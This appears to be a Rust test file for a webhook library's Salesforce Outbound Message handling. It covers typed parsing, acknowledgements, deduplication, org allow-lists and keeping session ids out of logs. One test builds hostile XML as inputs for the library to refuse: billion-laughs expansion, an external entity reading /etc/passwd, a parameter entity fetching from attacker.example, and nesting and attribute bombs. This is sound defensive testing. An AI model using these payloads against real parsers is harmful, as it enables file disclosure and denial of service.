//! Salesforce Outbound Messages through the public API: a message of the
//! captured format (tests/vectors/salesforce/outbound_message.xml, built
//! from the WSDL and the ids of published-keys.md 2.6) reaches the handler
//! typed and is acknowledged byte for byte (the acknowledgement of
//! published-keys.md 2.2, read from the file); other orgs are refused; a
//! copy is acknowledged without the handler; hostile XML is refused fast.

#![cfg(feature = "salesforce")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use bytes::Bytes;
use http::{Request, StatusCode};
use http_body_util::{BodyExt, Full};
use tower::ServiceExt;
use tower_webhook::scheme::{OutboundMessage, Salesforce, VerifyError};
use tower_webhook::{Rejection, Verified, WebhookLayer, endpoint};

const ORG: &str = "00D5e000000KQ2eEAG";

fn message() -> String {
    let path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/vectors/salesforce/outbound_message.xml");
    std::fs::read_to_string(path).unwrap()
}

/// The acknowledgement of published-keys.md 2.2: the lines after the
/// response's header block, up to the end of the code block.
fn expected_ack() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/vectors/published-keys.md");
    let text = std::fs::read_to_string(path).unwrap();
    let section = &text[text.find("### 2.2").unwrap()..];
    let start = section
        .find("Content-Type: text/xml; charset=utf-8\n\n")
        .unwrap()
        + "Content-Type: text/xml; charset=utf-8\n\n".len();
    let end = start + section[start..].find("```").unwrap();
    section[start..end].to_owned()
}

/// What the handler saw.
#[derive(Default)]
struct Seen {
    calls: AtomicUsize,
    messages: Mutex<Vec<OutboundMessage>>,
}

/// `POST /salesforce` behind the layer; the handler records the message and
/// answers `status`.
fn serve(scheme: Salesforce, status: StatusCode) -> (Router, Arc<Seen>) {
    let seen = Arc::new(Seen::default());
    let s = seen.clone();
    let handler = move |Verified(message, delivery): Verified<OutboundMessage>| {
        let s = s.clone();
        async move {
            assert_eq!(delivery.scheme, "salesforce");
            s.calls.fetch_add(1, Ordering::SeqCst);
            s.messages.lock().unwrap().push(message);
            (status, "handled")
        }
    };
    let layer = WebhookLayer::new(scheme);
    let app = Router::new().route("/salesforce", endpoint(layer, handler));
    (app, seen)
}

fn request(body: impl Into<Bytes>) -> Request<Full<Bytes>> {
    Request::post("/salesforce")
        .header("content-type", "text/xml; charset=utf-8")
        .header("soapaction", "\"\"")
        .body(Full::new(body.into()))
        .unwrap()
}

async fn send(app: &Router, body: impl Into<Bytes>) -> (StatusCode, http::HeaderMap, Bytes) {
    let res = app.clone().oneshot(request(body)).await.unwrap();
    let status = res.status();
    let headers = res.headers().clone();
    let body = res.into_body().collect().await.unwrap().to_bytes();
    (status, headers, body)
}

#[tokio::test]
async fn an_allowed_message_reaches_the_handler_typed_and_is_acknowledged_byte_for_byte() {
    let (app, seen) = serve(Salesforce::new([ORG]).unwrap(), StatusCode::OK);
    let (status, headers, body) = send(&app, message()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "text/xml; charset=utf-8");
    assert_eq!(String::from_utf8(body.to_vec()).unwrap(), expected_ack());
    assert_eq!(seen.calls.load(Ordering::SeqCst), 1);
    let messages = seen.messages.lock().unwrap();
    let m = &messages[0];
    assert_eq!(m.organization_id, ORG);
    assert_eq!(m.action_id, "04k5e000000CaRkAAK");
    assert_eq!(
        m.notification_ids().collect::<Vec<_>>(),
        ["04l5e00000Gx7QzAAJ", "04l5e00000Gx7R0AAJ"]
    );
    let account = &m.notifications[0].sobject;
    assert_eq!(account.object_type, "Account");
    assert_eq!(account.id(), Some("0015e00000ABCDeAAP"));
    assert_eq!(account.get("Name"), Some("Acme & Co"));
    assert_eq!(account.fields.get("Description"), Some(&None));
    // The session id is handed over, never shown.
    let session = m.session_id().unwrap().expose().to_owned();
    assert!(session.starts_with("00D5e000000KQ2e!"));
    assert!(!format!("{m:?}").contains(&session));
    assert!(!serde_json::to_string(m).unwrap().contains(&session));
}

#[tokio::test]
async fn the_same_notifications_again_are_acknowledged_without_the_handler() {
    let (app, seen) = serve(Salesforce::new([ORG]).unwrap(), StatusCode::NO_CONTENT);
    let (status, _, body) = send(&app, message()).await;
    // A 204 of the handler is a 2xx: acknowledged.
    assert_eq!((status, body.len()), (StatusCode::OK, expected_ack().len()));
    let res = app.clone().oneshot(request(message())).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(matches!(
        res.extensions().get::<Rejection>(),
        Some(Rejection::Duplicate { .. })
    ));
    assert_eq!(res.headers()["content-type"], "text/xml; charset=utf-8");
    let body = res.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(String::from_utf8(body.to_vec()).unwrap(), expected_ack());
    // A retry with another SessionId, the notifications in another order
    // and other whitespace is the same message.
    let text = message();
    let first = text.find("   <Notification>").unwrap();
    let middle = text
        .find("   <Notification>\n    <Id>04l5e00000Gx7R0AAJ")
        .unwrap();
    let end = text.find("  </notifications>").unwrap();
    let reordered = format!(
        "{}{}{}{}",
        &text[..first],
        &text[middle..end],
        &text[first..middle],
        &text[end..]
    )
    .replace("FakeSessionIdForTestsOnly", "AnotherFakeSession")
    .replace("\n ", "\n  ");
    assert_ne!(reordered, text);
    let (status, _, body) = send(&app, reordered).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(String::from_utf8(body.to_vec()).unwrap(), expected_ack());
    assert_eq!(seen.calls.load(Ordering::SeqCst), 1);
    // A message mixing a handled notification with a new one reaches the
    // handler: never acknowledged unseen.
    let mixed = text.replace("04l5e00000Gx7R0AAJ", "04l5e00000Gx7R1AAJ");
    let (status, _, body) = send(&app, mixed).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(String::from_utf8(body.to_vec()).unwrap(), expected_ack());
    assert_eq!(seen.calls.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn a_handler_error_is_not_acknowledged_and_the_retry_is_handled() {
    let calls = Arc::new(AtomicUsize::new(0));
    let c = calls.clone();
    let handler = move |Verified(_, _): Verified<OutboundMessage>| {
        let c = c.clone();
        async move {
            if c.fetch_add(1, Ordering::SeqCst) == 0 {
                StatusCode::SERVICE_UNAVAILABLE
            } else {
                StatusCode::OK
            }
        }
    };
    let app = Router::new().route(
        "/salesforce",
        endpoint(WebhookLayer::new(Salesforce::new([ORG]).unwrap()), handler),
    );
    let (status, _, body) = send(&app, message()).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(!String::from_utf8_lossy(&body).contains("<Ack>"));
    let (status, _, body) = send(&app, message()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(String::from_utf8(body.to_vec()).unwrap(), expected_ack());
    assert_eq!(calls.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn an_unknown_organization_is_refused_and_never_acknowledged() {
    let (app, seen) = serve(
        Salesforce::new(["00D000000000001"]).unwrap(),
        StatusCode::OK,
    );
    let res = app.clone().oneshot(request(message())).await.unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        res.extensions().get::<Rejection>(),
        Some(&Rejection::Unverified(VerifyError::NotAllowed {
            field: "OrganizationId",
            setting: "Salesforce::new"
        }))
    );
    let body = res.into_body().collect().await.unwrap().to_bytes();
    assert!(!String::from_utf8_lossy(&body).contains("Ack"));
    // And an ActionId outside the configured ones.
    let scheme = Salesforce::new([ORG])
        .unwrap()
        .action_ids(["04k000000000001"])
        .unwrap();
    let (app2, seen2) = serve(scheme, StatusCode::OK);
    let (status, _, _) = send(&app2, message()).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(seen.calls.load(Ordering::SeqCst), 0);
    assert_eq!(seen2.calls.load(Ordering::SeqCst), 0);
}

/// Hostile documents, each refused (401) without reaching the handler, in
/// well under a second each, whatever their size (up to the layer's 1 MiB).
#[tokio::test]
async fn hostile_xml_is_refused_fast() {
    let (app, seen) = serve(Salesforce::new([ORG]).unwrap(), StatusCode::OK);
    let m = message();
    let billion_laughs = {
        let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for i in 1..10 {
            let prev = if i == 1 {
                "lol".to_owned()
            } else {
                format!("lol{}", i - 1)
            };
            dtd.push_str(&format!(
                "<!ENTITY lol{i} \"{}\">",
                format!("&{prev};").repeat(10)
            ));
        }
        dtd.push_str("]>");
        m.replacen("<soapenv:Envelope", &format!("{dtd}<soapenv:Envelope"), 1)
            .replacen("Acme &amp; Co", "&lol9;", 1)
    };
    let external = m
        .replacen(
            "<soapenv:Envelope",
            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><soapenv:Envelope",
            1,
        )
        .replacen("Acme &amp; Co", "&xxe;", 1);
    let undeclared_entity = m.replacen("Acme &amp; Co", "&xxe;", 1);
    let parameter_entity = m.replacen(
        "<soapenv:Envelope",
        "<!DOCTYPE foo [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]><soapenv:Envelope",
        1,
    );
    let deep = m.replacen(
        "<sf:Name>Acme &amp; Co</sf:Name>",
        &format!("<sf:Name>{}</sf:Name>", "<a>".repeat(200_000)),
        1,
    );
    let deep_header = m.replacen(
        "<soapenv:Body>",
        &format!("<soapenv:Header>{}", "<h>".repeat(200_000)),
        1,
    );
    let huge_attribute = m.replacen(
        "<sf:Name>",
        &format!("<sf:Name junk=\"{}\">", "A".repeat(900_000)),
        1,
    );
    let many_attributes = m.replacen(
        "<sf:Name>",
        &format!(
            "<sf:Name{}>",
            (0..60_000)
                .map(|i| format!(" a{i}=\"\""))
                .collect::<String>()
        ),
        1,
    );
    let many_namespaces = m.replacen(
        "<sf:Name>",
        &format!(
            "<sf:Name{}>",
            (0..40)
                .map(|i| format!(" xmlns:n{i}=\"u\""))
                .collect::<String>()
        ),
        1,
    );
    let too_many_notifications = {
        let one = m.split("<Notification>").nth(1).unwrap();
        let one = one.split("</Notification>").next().unwrap();
        let extra = format!("<Notification>{one}</Notification>").repeat(200);
        m.replacen("<Notification>", &format!("{extra}<Notification>"), 1)
    };
    let not_utf8 = {
        let mut b = m.clone().into_bytes();
        let i = m.find("Acme").unwrap();
        b[i] = 0xff;
        b
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("billion laughs", billion_laughs.into_bytes()),
        ("external entity", external.into_bytes()),
        ("undeclared entity", undeclared_entity.into_bytes()),
        ("parameter entity", parameter_entity.into_bytes()),
        ("deep nesting", deep.into_bytes()),
        ("deep SOAP header", deep_header.into_bytes()),
        ("huge attribute", huge_attribute.into_bytes()),
        ("many attributes", many_attributes.into_bytes()),
        ("many namespaces", many_namespaces.into_bytes()),
        ("200 notifications", too_many_notifications.into_bytes()),
        ("not UTF-8", not_utf8),
        (
            "JSON",
            br#"{"OrganizationId":"00D5e000000KQ2eEAG"}"#.to_vec(),
        ),
        ("empty", Vec::new()),
    ];
    for (name, body) in cases {
        assert!(body.len() < 1024 * 1024, "{name}: {} bytes", body.len());
        let started = Instant::now();
        let res = app.clone().oneshot(request(body)).await.unwrap();
        let took = started.elapsed();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED, "{name}");
        assert!(
            matches!(
                res.extensions().get::<Rejection>(),
                Some(Rejection::Unverified(VerifyError::MalformedMessage { .. }))
            ),
            "{name}: {:?}",
            res.extensions().get::<Rejection>()
        );
        assert!(took < Duration::from_secs(1), "{name}: {took:?}");
    }
    assert_eq!(seen.calls.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn the_session_id_never_reaches_the_logs() {
    use tracing_subscriber::fmt::MakeWriter;

    #[derive(Clone, Default)]
    struct Buffer(Arc<Mutex<Vec<u8>>>);
    impl std::io::Write for Buffer {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    impl<'a> MakeWriter<'a> for Buffer {
        type Writer = Buffer;
        fn make_writer(&'a self) -> Buffer {
            self.clone()
        }
    }
    let logs = Buffer::default();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(logs.clone())
        .with_max_level(tracing::Level::TRACE)
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    let (app, _) = serve(Salesforce::new([ORG]).unwrap(), StatusCode::OK);
    for _ in 0..2 {
        send(&app, message()).await;
    }
    let (refusing, _) = serve(
        Salesforce::new(["00D000000000001"]).unwrap(),
        StatusCode::OK,
    );
    send(&refusing, message()).await;
    let text = String::from_utf8(logs.0.lock().unwrap().clone()).unwrap();
    assert!(text.contains("salesforce"), "{text}");
    assert!(!text.contains("FakeSessionIdForTestsOnly"), "{text}");
}

#[tokio::test]
async fn a_json_payload_type_cannot_read_xml() {
    // A JSON payload type on a Salesforce route: the verified message is
    // refused by the extractor (400), and the log names the mistake.
    let app = Router::new().route(
        "/salesforce",
        endpoint(
            WebhookLayer::new(Salesforce::new([ORG]).unwrap()),
            |Verified(_, _): Verified<serde_json::Value>| async { StatusCode::OK },
        ),
    );
    let res = app.oneshot(request(message())).await.unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    let (head, _) = http::Request::new(()).into_parts();
    let e = tower_webhook::Delivery::for_tests(message(), tower_webhook::scheme::Format::Xml)
        .decode::<serde_json::Value>(&head)
        .unwrap_err()
        .to_string();
    assert!(e.contains("XML") && e.contains("OutboundMessage"), "{e}");
}

#[tokio::test]
async fn headers_decide_nothing() {
    // Salesforce authenticates nothing in the head: copies with other
    // content types, SOAP actions or forwarded-for headers are the same
    // message, and a forged message is no better for carrying Salesforce's.
    let (app, seen) = serve(Salesforce::new([ORG]).unwrap(), StatusCode::OK);
    for (header, value) in [
        ("content-type", "text/xml; charset=utf-8"),
        ("content-type", "application/json"),
        ("soapaction", "\"urn:other\""),
        ("x-forwarded-for", "96.43.144.1"),
        ("user-agent", "Salesforce"),
    ] {
        let mut req = request(message());
        req.headers_mut().insert(header, value.parse().unwrap());
        let res = app.clone().oneshot(req).await.unwrap();
        assert_eq!(res.status(), StatusCode::OK, "{header}");
    }
    assert_eq!(seen.calls.load(Ordering::SeqCst), 1);
    let (refusing, seen) = serve(
        Salesforce::new(["00D000000000001"]).unwrap(),
        StatusCode::OK,
    );
    let mut req = request(message());
    req.headers_mut()
        .insert("user-agent", "Salesforce".parse().unwrap());
    let res = refusing.oneshot(req).await.unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(seen.calls.load(Ordering::SeqCst), 0);
}
